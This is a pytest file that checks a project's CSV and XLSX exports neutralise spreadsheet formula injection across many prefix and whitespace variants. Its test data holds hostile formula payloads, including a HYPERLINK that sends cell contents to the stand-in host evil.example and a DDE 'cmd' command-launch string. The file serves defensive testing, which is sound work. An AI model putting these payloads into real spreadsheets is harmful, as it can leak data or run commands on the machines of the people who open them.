"""Every known formula-injection prefix, through the CSV and XLSX downloads: none survives as a formula.

The check here does not reuse exports.FORMULA_STARTS: a cell is live when, after any leading whitespace or
invisible format characters, its first character is (in NFKC, so full-width and small forms count) one of
= + - @, or when it starts with a tab or carriage return — unless the cell starts with the apostrophe guard.
"""

from __future__ import annotations

import csv
import io
import itertools
import unicodedata
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

from board.exports import Sheet as ExportSheet
from board.exports import csv_bytes, figures_workbook, xlsx_bytes
from loaders import load_path
from tests.reply_files import SEED

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"]
PAYLOADS = ["1+1", 'HYPERLINK("http://evil.example/?"&A1,"点击")', "cmd|' /C calc'!A0", "SUM(A1:A9)"]
BLANKS = ["", " ", "  ", "\u3000", "\u00a0", "\n", " \t", "\u3000 "]  # what the guard is meant to see through
OTHER_BLANKS = ["\u2002", "\u2003", "\u2009", "\u202f", "\u200b", "\ufeff", "\x0b", "\x0c", "\u2028"]
INVISIBLE = {"Cf", "Zs", "Zl", "Zp", "Cc"}


def is_live(cell: str) -> bool:
    if not cell or cell.startswith("'") or is_number(cell):
        return False
    if cell[0] in "\t\r":
        return True
    rest = cell
    while rest and (rest[0].isspace() or unicodedata.category(rest[0]) in INVISIBLE):
        rest = rest[1:]
    return bool(rest) and unicodedata.normalize("NFKC", rest[0])[:1] in "=+-@−"


def is_number(cell: str) -> bool:
    """A plain number (-15, -3.99e9) is read as a number, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell


def hostile_cells(blanks: list[str]) -> list[str]:
    return [b + p + x for b, p, x in itertools.product(blanks, PREFIXES, PAYLOADS)]


def hostile_frame(cells: list[str]) -> pd.DataFrame:
    """The seed's figures, repeated to hold every hostile cell in each text column; numbers kept (and negated)."""
    figures = load_path(SEED).figures
    rows = pd.concat([figures] * (len(cells) // len(figures) + 1), ignore_index=True).head(len(cells))
    for column in ("text", "label", "sentence", "section", "theme", "doc", "unit", "qualifier_word"):
        rows[column] = pd.array(cells, dtype="string")
    rows["base_value"] = -rows["base_value"]  # negative numbers are numbers, not formulas
    return rows


def csv_cells(frame: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_bytes(frame, "figures").decode("utf-8-sig"), newline="")))


def check_csv(frame: pd.DataFrame) -> None:
    header, *body = csv_cells(frame)
    assert len(body) == len(frame)
    live = [cell for row in body for cell in row if is_live(cell)]
    assert not live, live[:5]
    value = header.index("标准值") if "标准值" in header else None
    for row, expected in zip(body, frame["base_value"], strict=True):
        if value is not None and not pd.isna(expected):
            assert float(row[value]) == pytest.approx(float(expected))  # a bare number, no guard


def check_xlsx(frame: pd.DataFrame, query: str) -> None:
    documents = load_path(SEED).documents.assign(title=pd.array([query], dtype="string"))
    filters = [("关键词", query), ("主题", query)]
    data = figures_workbook(frame, documents, filters, datetime(2020, 8, 31), link="?q=" + query)
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and is_live(cell.value)), (sheet.title, cell.value)
    numbers = [c for c in next(book["数据"].iter_cols(min_row=1)) if c.value == "标准值"]
    if numbers:
        column = numbers[0].column
        values = [c.value for c in next(book["数据"].iter_cols(min_col=column, max_col=column, min_row=2))]
        expected = [None if pd.isna(v) else float(v) for v in frame["base_value"]]
        assert values == expected
        assert all(isinstance(v, float) for v in values if v is not None)
    with zipfile_of(data) as archive:  # and no formula element anywhere in the workbook's XML
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in archive.namelist())


def zipfile_of(data: bytes):
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data))


def test_every_prefix_with_leading_whitespace_is_inert_in_csv():
    check_csv(hostile_frame(hostile_cells(BLANKS)))


@pytest.mark.parametrize("query", [c for c in hostile_cells(BLANKS) if "HYPERLINK" in c][::7])
def test_every_prefix_with_leading_whitespace_is_inert_in_xlsx(query):
    check_xlsx(hostile_frame(hostile_cells(BLANKS)[:60]), query)


def test_column_names_and_other_tables_are_guarded_too():
    frame = pd.DataFrame({'=HYPERLINK("http://x")': ["a"], "数量": [-3.5], " @x": ["＠SUM(A1)"]})
    header, row = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert not any(is_live(c) for c in header + row) and float(row[1]) == -3.5
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([ExportSheet("表", frame)])))
    cells = [c for r in book["表"].iter_rows() for c in r]
    assert not any(c.data_type == "f" or (isinstance(c.value, str) and is_live(c.value)) for c in cells)
    assert book["表"]["B2"].value == -3.5


@pytest.mark.parametrize("blank", OTHER_BLANKS, ids=lambda b: f"U+{ord(b):04X}")
def test_prefixes_after_other_whitespace_are_inert(blank):
    check_csv(hostile_frame([blank + p + "1+1" for p in PREFIXES]))
